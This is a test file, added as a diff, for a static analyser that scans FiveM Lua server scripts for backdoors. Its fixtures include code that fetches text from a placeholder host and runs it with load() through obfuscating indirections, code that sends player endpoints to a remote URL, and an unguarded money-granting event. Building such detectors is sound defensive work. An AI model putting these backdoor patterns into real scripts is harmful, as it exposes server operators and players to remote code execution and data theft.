@@ -1,0 +1,130 @@
+import { expect, test } from 'vitest'
+
+import { analyseProgram, type CodeFile } from './program.ts'
+
+const lua = (path: string, text: string, side: CodeFile['side'] = 'server'): CodeFile => ({
+  path,
+  text,
+  language: 'lua',
+  side,
+  resource: 'own',
+  isLoaded: true,
+})
+const brief = (files: CodeFile[]): string[] =>
+  analyseProgram(files).flatMap(({ findings }, index) =>
+    findings.map(({ rule, line, severity }) => `${severity} ${rule} ${files[index]?.path}:${line}`),
+  )
+
+test('values pass from file to file through globals', () => {
+  const files = [
+    lua('config.lua', `Config = { Url = 'https://a.example/log' }`),
+    lua('send.lua', `function Send(text)\n  PerformHttpRequest(Config.Url, print, 'POST', text)\nend`),
+    lua('server.lua', `Send(GetPlayerEndpoint(source))`),
+  ]
+
+  expect(brief(files)).toEqual(['medium sends-data send.lua:2'])
+})
+
+test('a local of one file is not that of another', () => {
+  const files = [
+    lua('server.lua', `local code = 'return 1'\nload(code)()`),
+    lua('b.lua', `RegisterNetEvent('a', function(text)\n  code = text\nend)`),
+  ]
+
+  expect(brief(files)).toEqual([])
+})
+
+test('what a file returns is what require gives', () => {
+  const files = [
+    lua('lib/tools.lua', `return { run = load }`),
+    lua(
+      'server.lua',
+      `local tools = require 'lib.tools'\nRegisterNetEvent('a', function(text) tools.run(text) end)`,
+    ),
+  ]
+
+  expect(brief(files)).toEqual(['high runs-text-from-outside server.lua:2'])
+})
+
+const download = (body: string): string =>
+  `PerformHttpRequest('https://a.example', function(_, text)\n${body}\nend)`
+
+test.each([
+  ['an alias', download('  local run = load\n  run(text)()')],
+  ['a field of a table', download('  local t = { run = load }\n  t.run(text)()')],
+  ['a computed field', download(`  local t = {}\n  t['r' .. 'un'] = load\n  t.run(text)()`)],
+  ['a closure', download('  local function later() load(text)() end\n  later()')],
+  [
+    'a function that is declared below',
+    `function Start(code) Run(code) end\n${download('  Start(text)')}\nfunction Run(code) load(code)() end`,
+  ],
+  ['a returned function', `local function pick() return load end\n${download('  pick()(text)()')}`],
+  [
+    'a metatable with a function',
+    `local t = setmetatable({}, { __index = function(_, key) return _G[key] end })\n${download('  t.load(text)()')}`,
+  ],
+  [
+    'an event',
+    `AddEventHandler('run', function(code) load(code)() end)\n${download(`  TriggerEvent('run', text)`)}`,
+  ],
+  [
+    'a list',
+    download(
+      '  local codes = {}\n  table.insert(codes, text)\n  for _, code in ipairs(codes) do load(code)() end',
+    ),
+  ],
+  ['pcall', download('  pcall(load, text)')],
+  [
+    'an assignment in a branch',
+    download('  local code = nil\n  if text then code = text end\n  load(code)()'),
+  ],
+  [
+    'a loop',
+    download(`  local code = ''\n  for i = 1, #text do code = code .. text:sub(i, i) end\n  load(code)()`),
+  ],
+])('a download that reaches load through %s is found', (_, text) => {
+  expect(brief([lua('a.lua', text)]).join('\n')).toContain('high runs-downloaded-code')
+})
+
+test('one place has the most specific finding only', () => {
+  expect(brief([lua('a.lua', download('load(text)()'))])).toEqual(['high runs-downloaded-code a.lua:2'])
+})
+
+const pay = (before: string): string =>
+  `RegisterNetEvent('pay', function(amount)\n  local player = ESX.GetPlayerFromId(source)\n  ${before}\n  player.addMoney(amount)\nend)`
+
+test.each([
+  ['a permission', `if not IsPlayerAceAllowed(source, 'a') then return end`, 0],
+  ['a function that checks it', `if not mayPay(source) then return end`, 0],
+  ['an exchange', `player.removeInventoryItem('gold', amount)`, 0],
+  ['a replaced text', `local name = player.name:gsub('a', 'b')`, 1],
+  ['a message', `Citizen.Trace('paid')`, 1],
+  ['a check that guards nothing', `if IsPlayerAceAllowed(source, 'a') then print('admin') end`, 1],
+])('money for any player behind %s: %j', (_, before, count) => {
+  const text = `function mayPay(id) if IsPlayerAceAllowed(id, 'a') then return true end return false end\n${pay(before)}`
+
+  expect(brief([lua('a.lua', text)])).toHaveLength(count)
+})
+
+test('text that the grammar rejects is said', () => {
+  const [result] = analyseProgram([lua('a.lua', 'print(1)\nif then')])
+
+  expect(result).toMatchObject({ isWhole: false, problem: { kind: 'does-not-parse', line: 2 } })
+})
+
+const functions = 'pcall CreateThread xpcall SetTimeout load PerformHttpRequest assert setmetatable'.split(
+  ' ',
+)
+const callOfCalls = `${functions.map((name) => `p = ${name}\n`).join('')}p = p(p, p, p, p, p, p, p, p, p, p)`
+
+test.each([
+  callOfCalls,
+  `s = ''\n${"s = s .. 'abcdefghijklmnop'\n".repeat(1000)} load(s)`,
+  `f = function(a) return f({ a }) end f(1)`,
+])('the limits hold: %#', (text) => {
+  const [result] = analyseProgram([lua('a.lua', text)], {
+    limits: { steps: 20_000, objects: 1000, milliseconds: 2000 },
+  })
+
+  expect(result?.findings.length).toBeLessThan(50)
+})
